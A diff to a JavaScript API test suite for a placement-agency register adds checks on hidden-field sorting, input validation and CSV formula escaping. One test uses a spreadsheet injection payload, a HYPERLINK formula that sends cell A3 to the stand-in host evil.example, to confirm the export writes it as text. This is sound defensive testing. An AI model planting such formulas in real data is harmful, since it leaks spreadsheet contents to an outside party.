@@ -395,6 +395,16 @@ describe('placement agencies: a register without terms', () => {
     assert.equal((await cell.get(`/api/v1/agencies?licence_valid_to_before=${day(365)}&licence_valid_to_from=${day(100)}`)).json.total, 1);
     assert.equal(assertError(await cell.get('/api/v1/agencies?licence_valid_to_within=x'), 400).field, 'licence_valid_to_within');
   });
+  it('keeps what the public may not see out of its sorts and filters, and formulas out of CSV cells', async () => {
+    assertError(await srv.request('GET', '/api/v1/agencies?sort=-updated'), 400);
+    assertStatus(await cell.get('/api/v1/agencies?sort=-updated'), 200);
+    const f = await cell.post('/api/v1/agencies', agency({ state_lgd: OD, name: '=HYPERLINK("http://evil.example/?"&A3,"x")', registration_no: 'X/1' }));
+    assertStatus(f, 201);
+    const csv = await cell.get('/api/v1/agencies?format=csv');
+    assert.ok(csv.text.includes('"\'=HYPERLINK(""http://evil.example/?""&A3,""x"")"'), 'a formula is written as text');
+    assert.equal(assertError(await cell.post('/api/v1/agencies', { ...agency(), state_lgd: OD, ['x'.repeat(200)]: 1 }), 400).field, 'body');
+    assertError(await cell.patch(`/api/v1/agencies/${f.json.id}`, { phone: '0674-2550012', version: '1' }), 400);
+  });
   it('the public checks an agency; owners and complaints are not public', async () => {
     const r = await srv.request('GET', '/api/v1/agencies?q=sunrise');
     assertStatus(r, 200);
@@ -452,6 +462,7 @@ describe('best practices: submitted by a State, reviewed and published by the Ce
   it('not public until published; then found on the portal by its text', async () => {
     assertError(await srv.request('GET', `/api/v1/practices/${p.id}`), 404);
     assert.equal((await srv.request('GET', '/api/v1/practices?q=ganjam')).json.total, 0);
+    assertError(await srv.request('GET', '/api/v1/practices?status=submitted'), 400);
     assertStatus(await cell.post(`/api/v1/practices/${p.id}/accept`, {}), 200);
     assertError(await srv.request('GET', `/api/v1/practices/${p.id}`), 404); // accepted, not yet published
     const r = await cell.post(`/api/v1/practices/${p.id}/publish`, {});
